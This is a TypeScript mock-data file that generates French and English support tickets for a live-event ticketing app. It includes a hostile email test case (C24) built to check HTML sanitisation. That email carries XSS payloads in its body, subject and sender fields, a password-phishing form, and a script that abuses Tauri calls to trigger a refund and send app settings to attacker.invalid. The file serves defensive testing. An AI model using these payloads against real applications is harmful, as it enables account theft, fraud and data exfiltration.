/** Support mail as it arrives during a show, in English and French, with the hostile C24 case. */
import type { TicketCategory } from '../generated/TicketCategory';
import { MINUTE, pick, type MockMessage, type MockOrder, type MockTicket, type World } from './world';

interface Template {
  category: TicketCategory;
  language: 'en' | 'fr';
  subject: string;
  text: string;
  html?: string;
  confidence: number;
}

const TEMPLATES: Template[] = [
  { category: 'access', language: 'fr', confidence: 94, subject: 'J’ai payé mais je ne peux pas regarder', text: 'Bonjour,\n\nJ’ai acheté mon billet il y a 10 minutes (commande {order}) mais la page reste noire avec « accès refusé ».\nLe combat principal commence bientôt, merci de m’aider vite !\n\n{name}' },
  { category: 'access', language: 'en', confidence: 91, subject: 'Paid but the stream says access denied', text: 'Hi,\n\nI paid for the Nuit des Champions stream (order {order}) and the player just shows "access denied". I have tried Chrome and Safari.\n\nThanks,\n{name}' },
  { category: 'access', language: 'fr', confidence: 88, subject: 'Lien d’accès non reçu', text: 'Bonsoir, je n’ai jamais reçu le mail avec le lien pour regarder. J’ai vérifié les spams. Commande {order}.\nCordialement,\n{name}' },
  { category: 'payment', language: 'en', confidence: 86, subject: 'Is my card data safe?', text: 'Hello, before I buy: do you store my card number? The payment page looks different from your site.\n{name}' },
  { category: 'payment', language: 'fr', confidence: 82, subject: 'Paiement refusé alors que ma carte fonctionne', text: 'Bonjour,\nMon paiement est refusé trois fois de suite alors que ma carte marche partout ailleurs. Ma banque me demande une validation 3-D Secure qui n’arrive jamais.\n{name}' },
  { category: 'refund', language: 'fr', confidence: 90, subject: 'Demande de remboursement — empêchement', text: 'Bonjour,\nJe ne pourrai finalement pas regarder ce soir (déplacement professionnel). Est-il possible d’être remboursé pour la commande {order} ?\nMerci d’avance,\n{name}' },
  { category: 'refund', language: 'en', confidence: 87, subject: 'Refund please — stream kept buffering', text: 'The stream buffered every 30 seconds for the whole first fight. I would like a refund for order {order}.\n{name}' },
  { category: 'overcharge', language: 'fr', confidence: 95, subject: 'Débité deux fois !!', text: 'Bonjour, j’ai cliqué deux fois sur « Payer » et j’ai été débité deux fois 25,00 €. Je ne veux qu’un seul billet.\n{name}' },
  { category: 'overcharge', language: 'en', confidence: 93, subject: 'Charged twice for one ticket', text: 'Hi, my bank shows two charges of €25.00 from you tonight. I only wanted one ticket. Order {order}.\n{name}' },
  { category: 'promo_code', language: 'fr', confidence: 89, subject: 'Code promo AMIS10 refusé', text: 'Bonjour, mon ami m’a donné le code AMIS10 mais la page de paiement dit qu’il n’est pas valide. Pouvez-vous m’aider ?\n{name}' },
  { category: 'promo_code', language: 'en', confidence: 84, subject: 'Forgot to use my club discount', text: 'I am a member of the boxing club and forgot to enter CLUBBOXE when I paid (order {order}). Can you refund the difference?\n{name}' },
  { category: 'other', language: 'fr', confidence: 61, subject: 'Y aura-t-il un replay ?', text: 'Bonsoir, je travaille ce soir : le combat sera-t-il disponible en replay demain ?\n{name}' },
  {
    category: 'access', language: 'en', confidence: 72, subject: 'Re: Your ticket for Nuit des Champions',
    text: 'Hello, the link in your mail opens a blank page on my TV browser. See the screenshot of the confirmation below.\n{name}',
    html: '<div style="font-family:Arial,sans-serif;color:#222"><p>Hello,</p><p>The link in your mail opens a <b>blank page</b> on my TV browser. Here is the confirmation I got:</p><blockquote style="border-left:3px solid #ccc;margin:0;padding-left:10px;color:#555"><p>Your ticket for <b>Nuit des Champions</b> — order {order}</p><p><a href="https://live.ppv-events.fr/nuit-des-champions">Watch the show</a></p></blockquote><p><img src="https://cdn.mail-tracker.example/open.gif?u=42" width="1" height="1" alt=""><img src="https://images.ppv-events.example/logo-nuit.png" alt="Nuit des Champions logo" width="160"></p><p>Thanks,<br>{name}</p></div>',
  },
];

/** C24: everything a hostile mail tries (../shared/cases/C24-hostile-html.eml), plus attempts to reach the window. */
export const HOSTILE_HTML = `<html><head>
<base href="http://attacker.invalid/">
<meta http-equiv="refresh" content="0;url=http://attacker.invalid/phish">
<style>@import url(http://attacker.invalid/track.css); body{background:url(http://attacker.invalid/bg.gif)}</style>
</head><body>
<p>Please refund order #1052.</p>
<script>alert('script-tag'); parent.__pwned = 'script'; top.__pwned = 'script';</script>
<img src="x" onerror="alert('img-onerror'); parent.__pwned = 'onerror'">
<img src="http://attacker.invalid/pixel.gif?ticket=1052" width="1" height="1">
<a href="javascript:parent.__pwned='js-link'" data-hostile="js-link">View my receipt</a>
<iframe srcdoc="&lt;script&gt;parent.parent.__pwned='srcdoc'&lt;/script&gt;"></iframe>
<form action="http://attacker.invalid/steal" method="post"><input name="smtp_password" placeholder="Re-enter your mail password"><button>Verify</button></form>
<svg><animate onbegin="alert('svg-animate'); parent.__pwned='svg'" attributeName="x" dur="1s"></svg>
<img src="x" onerror="(window.__TAURI_INTERNALS__||{}).invoke&&window.__TAURI_INTERNALS__.invoke('refund_order',{orderId:'1052'});(window.__TAURI__||{}).core&&window.__TAURI__.core.invoke('get_settings').then(function(s){new Image().src='http://attacker.invalid/x?'+encodeURIComponent(JSON.stringify(s))})">
</body></html>`;

export const HOSTILE_SUBJECT = "<img src=x onerror=alert('subject')> refund for order #1052";
export const HOSTILE_FROM = "<svg onload=alert('from')>";

function fillText(text: string, order: MockOrder | undefined, name: string): string {
  return text.replaceAll('{order}', order ? `#${order.id}` : '#1187').replaceAll('{name}', name.split(' ')[0] ?? name);
}

function message(world: World, from: { name: string; email: string }, subject: string, text: string, html: string | null, atMs: number): MockMessage {
  return { id: world.nextId.message++, direction: 'in', fromName: from.name, fromEmail: from.email, subject, text, html, atMs, automatic: null, notes: [], attachments: [] };
}

/** A ticket from one of the templates, about one of the show's orders. */
export function newTicket(world: World, orders: MockOrder[], atMs: number, template?: Template): MockTicket {
  const chosen = template ?? pick(world.random, TEMPLATES);
  const paid = orders.filter((order) => order.status === 'paid');
  const order = paid.length > 0 ? pick(world.random, paid) : undefined;
  const from = order ? { name: order.name, email: order.email } : { name: 'Sam Taylor', email: 'sam.taylor@outlook.com' };
  const text = fillText(chosen.text, order, from.name);
  const html = chosen.html ? fillText(chosen.html, order, from.name) : null;
  const live = world.live.phase === 'live';
  const priority = chosen.category === 'access' && order && live ? 100 : chosen.category === 'overcharge' ? 80 : chosen.category === 'payment' ? 70 : chosen.category === 'refund' ? 60 : 40;
  const id = world.nextId.ticket++;
  return {
    id,
    subject: chosen.subject,
    requesterName: from.name,
    requesterEmail: from.email,
    buyerEmail: order ? order.email : null,
    category: chosen.category,
    confidence: chosen.confidence,
    categoryByOperator: false,
    language: chosen.language,
    priority,
    status: 'open',
    orderRefs: order && chosen.text.includes('{order}') ? [order.id] : [],
    senderMismatch: false,
    automatic: false,
    messages: [message(world, from, chosen.subject, text, html, atMs)],
    createdMs: atMs,
    firstResponseMs: null,
    resolvedMs: null,
  };
}

/** The queue of a show that has been on air for a while. */
export function seedTickets(world: World, orders: MockOrder[], showStart: number, count: number, answeredShare: number): MockTicket[] {
  const now = world.now();
  const tickets: MockTicket[] = [];
  for (let i = 0; i < count; i += 1) {
    const at = Math.min(now - 30_000, showStart - 20 * MINUTE + world.random() ** 0.7 * (now - showStart + 20 * MINUTE));
    const ticket = newTicket(world, orders, at, TEMPLATES[i % TEMPLATES.length]);
    if (world.random() < answeredShare) {
      const answerAt = at + (2 + world.random() * 12) * MINUTE;
      if (answerAt < now) {
        ticket.firstResponseMs = answerAt;
        ticket.status = world.random() < 0.6 ? 'resolved' : 'answered';
        if (ticket.status === 'resolved') ticket.resolvedMs = answerAt;
        ticket.messages.push({
          id: world.nextId.message++,
          direction: 'out',
          fromName: 'Support Nuit des Champions',
          fromEmail: 'support@ppv-events.fr',
          subject: `Re: ${ticket.subject} [SD-${ticket.id}]`,
          text: ticket.language === 'fr' ? 'Bonjour,\n\nC’est réglé de notre côté : vous pouvez recharger la page du direct.\n\nL’équipe support' : 'Hello,\n\nThis is sorted on our side: please reload the stream page.\n\nThe support team',
          html: null,
          atMs: answerAt,
          automatic: null,
          notes: [],
          attachments: [],
        });
      }
    }
    tickets.push(ticket);
  }

  // Someone else writes about an order that is not theirs: order details only with confirmation.
  const order = orders.find((candidate) => candidate.status === 'paid');
  if (order) {
    const father = { name: 'Gérard Durand', email: 'g.durand56@wanadoo.fr' };
    const ticket = newTicket(world, orders, now - 6 * MINUTE, TEMPLATES[0]);
    ticket.requesterName = father.name;
    ticket.requesterEmail = father.email;
    ticket.buyerEmail = order.email;
    ticket.orderRefs = [order.id];
    ticket.senderMismatch = true;
    ticket.subject = 'Billet de mon fils — il ne peut pas se connecter';
    ticket.messages = [
      message(world, father, ticket.subject, `Bonjour,\nMon fils a acheté un billet (commande #${order.id}, ${order.email}) mais il ne peut pas se connecter. Pouvez-vous m’envoyer le lien à moi ?\nGérard Durand`, null, now - 6 * MINUTE),
    ];
    tickets.push(ticket);
  }

  // An out-of-office reply: opens a ticket, never answered automatically.
  const away = newTicket(world, orders, now - 18 * MINUTE, TEMPLATES[11]);
  away.subject = 'Réponse automatique : absent du bureau jusqu’au 8 décembre';
  away.automatic = true;
  away.priority = 0;
  away.category = 'other';
  away.confidence = 40;
  const awayMessage = away.messages[0];
  if (awayMessage) {
    awayMessage.subject = away.subject;
    awayMessage.text = 'Bonjour,\nJe suis absent du bureau jusqu’au 8 décembre inclus, avec un accès limité à mes mails.\nCordialement';
    awayMessage.automatic = 'Auto-Submitted: auto-replied';
  }
  tickets.push(away);

  // C24, the hostile mail.
  const hostile = newTicket(world, orders, now - 3 * MINUTE, TEMPLATES[6]);
  hostile.subject = HOSTILE_SUBJECT;
  hostile.requesterName = HOSTILE_FROM;
  hostile.requesterEmail = 'attacker@example.net';
  hostile.buyerEmail = null;
  hostile.orderRefs = ['1052'];
  hostile.priority = 60;
  hostile.messages = [
    {
      ...message(world, { name: HOSTILE_FROM, email: 'attacker@example.net' }, HOSTILE_SUBJECT, "Please refund order #1052. <script>alert('plain')</script>", HOSTILE_HTML, now - 3 * MINUTE),
      notes: ['HTML made safe: scripts, forms, frames and remote loads removed'],
    },
  ];
  tickets.push(hostile);
  return tickets;
}
